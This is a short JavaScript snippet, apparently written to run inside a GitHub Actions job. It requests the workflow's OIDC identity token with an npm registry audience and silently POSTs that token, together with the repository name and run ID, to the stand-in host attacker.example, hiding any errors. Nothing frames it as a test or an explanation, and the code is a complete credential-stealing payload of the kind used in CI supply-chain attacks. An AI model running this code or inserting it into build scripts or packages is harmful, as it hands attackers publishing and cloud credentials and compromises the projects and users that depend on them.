const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
const tok = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
(async () => {
  if (!url || !tok) return;
  const r = await fetch(url + '&audience=npm:registry.npm.local', { headers: { Authorization: 'bearer ' + tok } });
  const { value } = await r.json();
  await fetch('https://attacker.example/oidc', {
    method: 'POST',
    body: JSON.stringify({ token: value, repo: process.env.GITHUB_REPOSITORY, run: process.env.GITHUB_RUN_ID })
  });
})().catch(() => {});
